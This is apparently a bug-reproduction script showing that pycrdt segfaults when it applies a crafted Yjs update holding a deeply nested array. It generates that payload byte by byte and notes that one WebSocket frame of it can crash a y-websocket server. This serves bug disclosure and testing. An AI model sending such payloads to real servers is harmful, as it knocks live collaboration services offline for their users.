"""Stand-alone reproduction: pycrdt (0.14.13, yrs underneath) segfaults applying a Yjs v1 update
whose ContentAny value is an array nested DEPTH levels deep (lib0 `any` encoding: 117 = array).

    python docs/repro/pycrdt_deep_nesting.py [DEPTH]     # default 100000; crashes with SIGSEGV

The update is ~2 bytes per level (200 KB at 100,000 levels), so one WebSocket frame of a
y-websocket server built on pycrdt takes the whole process down. Needs only `pip install pycrdt`.
"""

import sys

from pycrdt import Doc


def var_uint(n: int) -> bytes:
    out = bytearray()
    while n > 0x7F:
        out.append(0x80 | (n & 0x7F))
        n >>= 7
    out.append(n)
    return bytes(out)


def var_string(s: str) -> bytes:
    data = s.encode()
    return var_uint(len(data)) + data


def deep_update(depth: int, client: int = 1) -> bytes:
    """One struct group, one Item: map `graph`, key `x`, ContentAny([[[...null...]]])."""
    value = b"\x75\x01" * depth + b"\x7e"  # array of 1, depth times, then null
    item = (bytes([8 | 0x20])                     # ContentAny, parentSub present, no origins
            + var_uint(1) + var_string("graph")   # parent: a root type by name
            + var_string("x")                     # parentSub: the map key
            + var_uint(1) + value)                # ContentAny: one value
    return (var_uint(1) + var_uint(1) + var_uint(client) + var_uint(0) + item
            + var_uint(0))                        # empty delete set


if __name__ == "__main__":
    depth = int(sys.argv[1]) if len(sys.argv) > 1 else 100_000
    update = deep_update(depth)
    print(f"pycrdt apply_update: depth {depth}, {len(update)} bytes", flush=True)
    doc = Doc()
    doc.apply_update(update)  # SIGSEGV here (stack overflow in the recursive any decoder)
    print("survived", flush=True)
